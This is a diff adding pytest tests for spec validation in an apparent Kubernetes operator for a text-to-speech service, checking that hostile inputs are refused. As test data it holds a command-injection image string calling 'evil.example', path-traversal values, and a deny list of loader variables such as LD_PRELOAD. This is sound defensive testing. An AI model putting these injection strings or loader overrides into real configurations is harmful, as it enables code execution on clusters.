@@ -103,3 +103,181 @@ def test_unknown_fields_are_refused(make_service):
 def test_names_leave_room_for_child_suffixes(make_service):
     assert "at most 40 characters" in refusal(make_service, name="x" * 41)
     make_service(name="x" * 40)
+
+
+# Hostile specs (issue 10): each is refused by the model's patterns and CEL rules, which
+# the CRD carries, so the API server refuses the same (e2e/test_spec_fuzz.py checks that).
+
+
+def env_refusal(make_service, name: str) -> str:
+    return refusal(make_service, runtime={"env": [{"name": name, "value": "x"}]})
+
+
+@pytest.mark.parametrize("name", ["A=B", "x\ny", "1ABC", "", "A B", "A-B", "Ä", "A\x00", "x" * 129])
+def test_env_names_are_shell_identifiers(make_service, name):
+    env_refusal(make_service, name)
+
+
+@pytest.mark.parametrize(
+    ("name", "says"),
+    [
+        ("TTSFLEET_MAX_BATCH", "may not set TTSFLEET_* variables"),
+        ("TTSFLEET_AUTH", "may not set TTSFLEET_* variables"),
+        ("LD_PRELOAD", "loader or interpreter variables"),
+        ("LD_LIBRARY_PATH", "loader or interpreter variables"),
+        ("LD_AUDIT", "loader or interpreter variables"),
+        ("PYTHONPATH", "loader or interpreter variables"),
+        ("PYTHONSTARTUP", "loader or interpreter variables"),
+        ("PYTHONWARNINGS", "loader or interpreter variables"),
+        ("GCONV_PATH", "loader or interpreter variables"),
+        ("GLIBC_TUNABLES", "loader or interpreter variables"),
+        ("NVIDIA_VISIBLE_DEVICES", "NVIDIA_VISIBLE_DEVICES=all would expose GPUs"),
+        ("HF_HOME", "the operator sets them from model.source"),
+        ("HF_HUB_OFFLINE", "the operator sets them from model.source"),
+    ],
+)
+def test_env_may_not_override_settings_or_load_code(make_service, name, says):
+    assert says in env_refusal(make_service, name)
+
+
+def test_env_names_are_unique(make_service):
+    twice = [{"name": "HF_TOKEN", "value": "a"}, {"name": "HF_TOKEN", "value": "b"}]
+    assert "runtime.env names must be unique" in refusal(make_service, runtime={"env": twice})
+    service = make_service(runtime={"env": [{"name": "HF_TOKEN", "value": "a"}, {"name": "_LOG", "value": "b"}]})
+    assert [item.name for item in service.spec.runtime.env] == ["HF_TOKEN", "_LOG"]
+
+
+HOSTILE_NAMES = ["Not_A/Valid..Name!", "../../kube-system/admin", "UPPER", "-x", "a" * 254, "a\nb", ""]
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+@pytest.mark.parametrize(
+    "field",
+    [
+        lambda name: {"runtime": {"apiKeysSecret": name}},
+        lambda name: {"runtime": {"serviceAccountName": name}},
+        lambda name: {"runtime": {"imagePullSecrets": [name]}},
+        lambda name: {"model": {"size": "1.7B", "variant": "Base", "source": {"pvc": {"claimName": name}}}},
+    ],
+    ids=["apiKeysSecret", "serviceAccountName", "imagePullSecrets", "pvc.claimName"],
+)
+def test_object_names_are_dns_subdomains(make_service, field, name):
+    refusal(make_service, **field(name))
+
+
+@pytest.mark.parametrize("name", ["Bad_Name", "1tts", "tts-", "tts.voice", "tts\n", "ä", ""])
+def test_the_service_name_is_a_dns_1035_label(make_service, name):
+    assert "DNS-1035 label" in refusal(make_service, name=name)
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "ghcr.io/ttsfleet/runtime:0.2.0 --privileged",
+        "ghcr.io/ttsfleet/runtime:0.2.0\nx",
+        "$(curl evil.example)",
+        "ghcr.io/ttsfleet/runtime:\u202e0.2.0",
+        "ghcr.io/ttsfleet/runtime\x00:0.2.0",
+        "ghcr.io/ttsfleet/Runtime:0.2.0",
+        "ghcr.io/ttsfleet/runtime:0.2.0@sha256:short",
+        "",
+    ],
+)
+def test_images_follow_the_distribution_reference_grammar(make_service, image):
+    refusal(make_service, runtime={"image": image})
+    refusal(make_service, canary={"candidate": {"image": image}})
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "ghcr.io/ttsfleet/runtime:0.2.0",
+        "localhost:5000/runtime",
+        "registry.example.com:443/team/tts/runtime:v1.2_rc-3",
+        "ghcr.io/ttsfleet/runtime@sha256:" + "0" * 64,
+        "runtime:latest",
+    ],
+)
+def test_real_image_references_pass(make_service, image):
+    assert make_service(runtime={"image": image}).spec.runtime.image == image
+
+
+@pytest.mark.parametrize("path", ["/../../etc", "/models/..", "/a/../b", "relative", "/a//b", "/a b", "/a\n"])
+def test_pvc_paths_stay_inside_the_volume(make_service, path):
+    model = {"size": "1.7B", "variant": "Base", "source": {"pvc": {"claimName": "models", "path": path}}}
+    message = refusal(make_service, model=model)
+    if ".." in path:
+        assert "must not contain '..'" in message
+
+
+@pytest.mark.parametrize("hub", ["../etc", "a/..", "Qwen/../x", "a/b/c", "a--b/c", "a/b c", "/etc"])
+def test_hub_ids_are_owner_slash_name(make_service, hub):
+    refusal(make_service, model={"size": "1.7B", "variant": "Base", "source": {"hub": hub}})
+
+
+@pytest.mark.parametrize("revision", ["../../main", "a/../b", ".hidden", "main.", "a//b", "v 1", "-x"])
+def test_hub_revisions_are_refs_without_dot_dot(make_service, revision):
+    refusal(make_service, model={"size": "1.7B", "variant": "Base", "revision": revision})
+    refusal(make_service, canary={"candidate": {"modelRevision": revision}})
+
+
+@pytest.mark.parametrize("revision", ["main", "v1.0", "refs/pr/12", "0123456789abcdef0123456789abcdef01234567"])
+def test_real_hub_revisions_pass(make_service, revision):
+    make_service(model={"size": "1.7B", "variant": "Base", "revision": revision})
+
+
+@pytest.mark.parametrize(
+    "spec",
+    [
+        {"replicas": "3"},
+        {"replicas": 3.5},
+        {"replicas": True},
+        {"gpu": {"count": "1"}},
+        {"engine": {"cudaGraphs": "true"}},
+        {"spot": {"ratio": "0.5"}},
+        {"autoscaling": {"enabled": 1}},
+        {"model": {"size": "1.7B", "variant": "Base", "tokenizerRateHz": "12"}},
+    ],
+)
+def test_types_are_strict_as_on_the_api_server(make_service, spec):
+    refusal(make_service, **spec)
+
+
+def test_a_null_field_is_an_absent_field_as_on_the_api_server(make_service):
+    # The API server prunes nulls (no field is nullable) and then applies defaults.
+    service = make_service(replicas=None, canary=None, runtime={"apiKeysSecret": None})
+    assert service.spec.replicas == 1 and service.spec.canary is None
+    assert service.spec.runtime.api_keys_secret is None
+    assert make_service(spot={"ratio": 1}).spec.spot.ratio == 1.0
+
+
+def test_more_than_one_gpu_per_pod_is_refused_until_the_runtime_uses_them(make_service):
+    assert "gpu.count must be 1: the runtime serves with one GPU" in refusal(make_service, gpu={"count": 2})
+
+
+def test_api_keys_secret_contradicts_auth_disabled(make_service):
+    assert "apiKeysSecret has no effect with runtime.auth Disabled" in refusal(
+        make_service, runtime={"auth": "Disabled", "apiKeysSecret": "keys"}
+    )
+    assert make_service().spec.runtime.auth == "Enabled"
+
+
+@pytest.mark.parametrize(
+    ("toleration", "says"),
+    [
+        ({"operator": "Equal", "value": "x"}, "without a key needs operator Exists"),
+        ({"key": "k", "operator": "Exists", "value": "x"}, "operator Exists has no value"),
+        ({"key": "k", "effect": "NoSchedule", "tolerationSeconds": 5}, "applies to effect NoExecute only"),
+        ({"key": "bad key"}, "should match pattern"),
+    ],
+)
+def test_tolerations_are_ones_kubernetes_accepts(make_service, toleration, says):
+    assert says in refusal(make_service, spot={"ratio": 0.5, "tolerations": [toleration]})
+
+
+def test_spot_node_selector_keys_are_label_keys(make_service):
+    assert "spot.nodeSelector keys are label keys" in refusal(
+        make_service, spot={"ratio": 0.5, "nodeSelector": {"bad key!": "spot"}}
+    )
+    assert "should match pattern" in refusal(make_service, spot={"ratio": 0.5, "nodeSelector": {"pool": "a b"}})
+    make_service(spot={"ratio": 0.5, "nodeSelector": {"example.com/pool": "spot-gpu"}})
